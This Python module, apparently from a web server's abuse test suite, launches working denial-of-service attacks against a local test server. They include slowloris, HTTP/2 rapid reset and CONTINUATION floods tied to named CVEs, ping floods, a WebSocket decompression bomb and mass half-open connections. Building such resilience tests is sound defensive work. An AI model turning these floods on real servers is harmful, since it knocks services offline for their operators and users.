"""The attacks, in a process of their own: `python -m tests.abuse.attackers NAME PORT SECONDS`.

Plain sockets on an asyncio loop, so that one process holds thousands of connections and floods as
fast as it can. Says `attacking` once it is under way, and in the end what it has done, as JSON.
"""

from __future__ import annotations

import asyncio
import json
import os
import resource
import socket
import struct
import sys
import time
import zlib
from collections import Counter
from collections.abc import Awaitable, Callable

from tests.support.websocket import BINARY, FIN, PING, RSV1, frame, handshake

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING_FRAME, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
#: GET / for http://a, all in HPACK's static table but the authority.
HEAD = b"\x82\x84\x86\x41\x01a"
BOMB_SIZE = 256 * 1024 * 1024

done: Counter[str] = Counter()


def say(line: str) -> None:
    """Tell the test."""
    sys.stdout.write(line + "\n")
    sys.stdout.flush()


def http2_frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one HTTP/2 frame."""
    length = len(payload)
    return struct.pack("!BHBBI", length >> 16, length & 0xFFFF, kind, flags, stream) + payload


class Attack:
    """Where, and until when."""

    def __init__(self, port: int, seconds: float) -> None:
        """Begin now."""
        self.address = ("127.0.0.1", port)
        self.until = time.monotonic() + seconds
        self.begun = asyncio.Event()

    @property
    def left(self) -> float:
        """How many seconds are left."""
        return self.until - time.monotonic()

    async def connect(self, receive_buffer: int | None = None) -> socket.socket:
        """Open a connection, as often as it takes."""
        loop = asyncio.get_running_loop()
        while True:
            client = socket.socket()
            client.setblocking(False)
            if receive_buffer:
                client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
            try:
                await loop.sock_connect(client, self.address)
            except OSError:
                client.close()
                done["failed connects"] += 1
                await asyncio.sleep(0.05)
                continue
            done["connections"] += 1
            self.begun.set()
            return client

    async def send(self, client: socket.socket, data: bytes) -> None:
        """Send all of it, or as much as the server takes in the time that is left."""
        loop = asyncio.get_running_loop()
        await asyncio.wait_for(loop.sock_sendall(client, data), max(self.left, 0.01))

    async def discard(self, client: socket.socket) -> bytes:
        """Take what the server has sent; an end is an error."""
        try:
            data = client.recv(65536)
        except BlockingIOError:
            return b""
        if not data:
            raise ConnectionResetError
        return data

    async def again(self, attempt: Callable[[], Awaitable[None]], parallel: int) -> None:
        """Repeat an attempt, so many at a time, until the end."""

        async def repeat() -> None:
            while self.left > 0:
                try:
                    await attempt()
                except (OSError, TimeoutError):
                    done["thrown out"] += 1
                await asyncio.sleep(0)

        await asyncio.gather(*(repeat() for _ in range(parallel)))

    async def slowloris(self) -> None:
        """Heads that come one field at a time, and never end."""

        async def attempt() -> None:
            with await self.connect() as client:
                await self.send(client, b"GET /hello HTTP/1.1\r\nHost: a\r\n")
                while self.left > 0:
                    await asyncio.sleep(0.2)
                    await self.send(client, b"X: y\r\n")
                    done["fields"] += 1
                    await self.discard(client)

        await self.again(attempt, 400)

    async def slow_body(self) -> None:
        """Content that comes byte by byte."""

        async def attempt() -> None:
            with await self.connect() as client:
                head = b"POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n"
                await self.send(client, head)
                while self.left > 0:
                    await self.send(client, b"x")
                    done["bytes"] += 1
                    await asyncio.sleep(0.1)

        await self.again(attempt, 300)

    async def slow_reader(self) -> None:
        """Large responses, read byte by byte."""

        async def attempt() -> None:
            with await self.connect(receive_buffer=4096) as client:
                await self.send(client, b"GET /download HTTP/1.1\r\nHost: a\r\n\r\n")
                while self.left > 0:
                    await asyncio.sleep(0.1)
                    try:
                        done["bytes"] += len(client.recv(16))
                    except BlockingIOError:
                        continue

        await self.again(attempt, 200)

    async def rapid_reset(self) -> None:
        """Streams that are reset as soon as they are open (CVE-2023-44487)."""

        async def attempt() -> None:
            with await self.connect() as client:
                await self.send(client, PREFACE + http2_frame(SETTINGS, 0, 0))
                stream = 1
                cancel = struct.pack("!I", 8)
                while self.left > 0:
                    burst = bytearray()
                    for _ in range(50):
                        burst += http2_frame(HEADERS, END_STREAM | END_HEADERS, stream, HEAD)
                        burst += http2_frame(RST_STREAM, 0, stream, cancel)
                        stream += 2
                    await self.send(client, bytes(burst))
                    done["resets"] += 50
                    await self.discard(client)
                    await asyncio.sleep(0)

        await self.again(attempt, 20)

    async def continuation_flood(self) -> None:
        """A header section that never ends (CVE-2024-27316)."""

        async def attempt() -> None:
            with await self.connect() as client:
                await self.send(client, PREFACE + http2_frame(SETTINGS, 0, 0))
                await self.send(client, http2_frame(HEADERS, END_STREAM, 1, HEAD))
                field = b"\x00\x03x-a\x7d" + b"v" * 125
                frames = http2_frame(CONTINUATION, 0, 1, field * 100) * 10
                while self.left > 0:
                    await self.send(client, frames)
                    done["frames"] += 10
                    await self.discard(client)
                    await asyncio.sleep(0)

        await self.again(attempt, 20)

    async def http2_ping_flood(self) -> None:
        """PINGs whose answers nobody reads, and SETTINGS that have to be acknowledged."""

        async def attempt() -> None:
            with await self.connect(receive_buffer=4096) as client:
                await self.send(client, PREFACE + http2_frame(SETTINGS, 0, 0))
                burst = http2_frame(PING_FRAME, 0, 0, b"12345678") * 500
                burst += http2_frame(SETTINGS, 0, 0) * 50
                while self.left > 0:
                    await self.send(client, burst)
                    done["frames"] += 550
                    await asyncio.sleep(0)

        await self.again(attempt, 20)

    async def _shake_hands(self, client: socket.socket, *fields: tuple[str, str]) -> None:
        await self.send(client, handshake("/", *fields))
        received = b""
        loop = asyncio.get_running_loop()
        while b"\r\n\r\n" not in received:
            data = await asyncio.wait_for(loop.sock_recv(client, 4096), max(self.left, 0.01))
            if not data:
                raise ConnectionResetError
            received += data

    async def websocket_ping_flood(self) -> None:
        """PINGs whose answers nobody reads."""

        async def attempt() -> None:
            with await self.connect(receive_buffer=4096) as client:
                await self._shake_hands(client)
                burst = frame(PING, b"p" * 125) * 500
                while self.left > 0:
                    await self.send(client, burst)
                    done["pings"] += 500
                    await asyncio.sleep(0)

        await self.again(attempt, 20)

    async def websocket_bomb(self) -> None:
        """A message that is a thousand times as long once it is decompressed."""
        compressor = zlib.compressobj(9, wbits=-15)
        zeros = bytes(1024 * 1024)
        parts = [compressor.compress(zeros) for _ in range(BOMB_SIZE // len(zeros))]
        payload = b"".join(parts) + compressor.flush(zlib.Z_SYNC_FLUSH)
        bomb = frame(BINARY, payload.removesuffix(b"\x00\x00\xff\xff"), first=FIN | RSV1)
        self.until = time.monotonic() + max(self.left, 0.1)

        async def attempt() -> None:
            with await self.connect() as client:
                await self._shake_hands(client, ("Sec-WebSocket-Extensions", "permessage-deflate"))
                await self.send(client, bomb)
                done["bombs"] += 1
                loop = asyncio.get_running_loop()
                answer = b"."
                while answer:
                    receive = loop.sock_recv(client, 65536)
                    answer = await asyncio.wait_for(receive, max(self.left, 0.01))
                    if answer[:1] == b"\x88":
                        done[f"closed with {int.from_bytes(answer[2:4])}"] += 1

        await self.again(attempt, 8)

    async def large_header(self) -> None:
        """A field of a megabyte."""

        async def attempt() -> None:
            with await self.connect() as client:
                await self.send(client, b"GET /hello HTTP/1.1\r\nHost: a\r\nX: ")
                for _ in range(64):
                    await self.send(client, b"y" * 16384)
                    await self.discard(client)
                await self.send(client, b"\r\n\r\n")
                done["headers"] += 1

        await self.again(attempt, 50)

    async def half_open(self) -> None:
        """Connections on which nothing is ever said."""
        wanted = int(os.environ.get("ATTACK_CONNECTIONS", "10000"))
        soft = resource.getrlimit(resource.RLIMIT_NOFILE)[0]
        clients = []
        for _ in range(min(wanted, soft - 50)):
            clients.append(await self.connect())
            if self.left <= 0:
                self.until = time.monotonic()
                break
        say("attacking")
        await asyncio.sleep(max(self.left, 0))
        for client in clients:
            client.close()


ATTACKS = [
    "slowloris",
    "slow_body",
    "slow_reader",
    "rapid_reset",
    "continuation_flood",
    "http2_ping_flood",
    "websocket_ping_flood",
    "websocket_bomb",
    "large_header",
    "half_open",
]


async def main(name: str, port: int, seconds: float) -> None:
    """Attack for so long."""
    attack = Attack(port, seconds)
    under_way = asyncio.create_task(getattr(attack, name)())
    if name != "half_open":
        await attack.begun.wait()
        say("attacking")
    await under_way
    say(json.dumps(dict(done)))


if __name__ == "__main__":
    # Elsewhere the attacker has processors of its own.
    os.nice(5)
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3])))
